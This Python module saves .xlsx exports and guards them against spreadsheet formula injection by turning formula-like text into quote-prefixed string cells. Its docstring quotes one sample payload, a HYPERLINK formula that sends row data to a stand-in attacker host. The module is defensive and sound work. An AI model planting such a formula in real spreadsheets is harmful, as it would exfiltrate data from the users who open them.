"""The one way an .xlsx file leaves the platform: every export and template is saved through `to_bytes`.

A cell whose text starts with = + - @ would be taken by Excel or WPS as a formula (formula injection: a
project named ``=HYPERLINK("https://evil.example/?"&A1,"点击")`` becomes a live link that sends the row
away). Such text is written as text: a string cell with Excel's quote prefix, so it stays text even when
a user edits it. The value itself is unchanged, so an exported list still imports back as it was.
"""

from __future__ import annotations

import io
from collections.abc import Iterable
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import Cell, WriteOnlyCell

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_START)


def as_text(cell: Cell) -> Cell:
    """Make a cell holding formula-like text a plain string cell (no-op for any other cell)."""
    if is_formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def cells(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """A row for `sheet.append` in a write-only workbook (whose cells cannot be revisited before saving):
    formula-like text as text cells, everything else as given."""
    return [as_text(WriteOnlyCell(sheet, value=v)) if is_formula_like(v) else v for v in values]


def to_bytes(book: Workbook) -> bytes:
    """Save a workbook; in a normal (not write-only) workbook every formula-like text becomes text first.
    Write-only workbooks must build their rows with `cells`."""
    if not book.write_only:
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f" or is_formula_like(cell.value):
                        as_text(cell)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
